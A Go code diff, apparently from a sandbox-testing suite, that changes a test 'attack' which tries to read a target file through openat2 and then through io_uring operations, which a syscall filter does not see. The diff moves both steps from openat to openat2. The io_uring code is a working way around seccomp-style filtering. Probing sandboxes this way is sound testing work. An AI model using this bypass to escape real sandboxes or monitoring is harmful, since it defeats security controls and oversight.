@@ -8,12 +8,13 @@ import (
 	"golang.org/x/sys/unix"
 )
 
-// Ring reads the file Target.Path of the root directory, first by the calls that a filter sees,
+// Ring reads the file Target.Path of the root directory, first by openat2, which a filter sees,
 // then by operations of an io_uring, which it does not.
 var Ring = Attack{Name: "syscall.io-uring", Run: func(a *Attempt) {
 	path := a.Inside(a.Target.Path)
-	fd, err := unix.Open(path, unix.O_RDONLY|unix.O_CLOEXEC, 0)
-	if a.Try("openat "+a.Target.Path, err) {
+	how := unix.OpenHow{Flags: unix.O_RDONLY | unix.O_CLOEXEC}
+	fd, err := unix.Openat2(unix.AT_FDCWD, path, &how)
+	if a.Try("openat2 "+a.Target.Path, err) {
 		_ = unix.Close(fd) // what matters is whether the ring opens it
 	}
 	r, err := newRing()
@@ -22,10 +23,12 @@ var Ring = Attack{Name: "syscall.io-uring", Run: func(a *Attempt) {
 	}
 	name := append([]byte(path), 0)
 	file, err := r.do(ringEntry{
-		opcode: opOpenat, fd: unix.AT_FDCWD, address: uint64(uintptr(unsafe.Pointer(&name[0]))), flags: unix.O_RDONLY | unix.O_CLOEXEC,
+		opcode: opOpenat2, fd: unix.AT_FDCWD, address: uint64(uintptr(unsafe.Pointer(&name[0]))),
+		offset: uint64(uintptr(unsafe.Pointer(&how))), length: uint32(unsafe.Sizeof(how)),
 	})
 	runtime.KeepAlive(name)
-	if !a.Try("IORING_OP_OPENAT", err) {
+	runtime.KeepAlive(&how)
+	if !a.Try("IORING_OP_OPENAT2", err) {
 		return
 	}
 	buffer := make([]byte, 256)
@@ -37,7 +40,7 @@ var Ring = Attack{Name: "syscall.io-uring", Run: func(a *Attempt) {
 
 // Numbers of linux/io_uring.h.
 const (
-	opOpenat       = 18         // IORING_OP_OPENAT
+	opOpenat2      = 28         // IORING_OP_OPENAT2
 	opRead         = 22         // IORING_OP_READ
 	offSubmissions = 0          // IORING_OFF_SQ_RING
 	offCompletions = 0x8000000  // IORING_OFF_CQ_RING
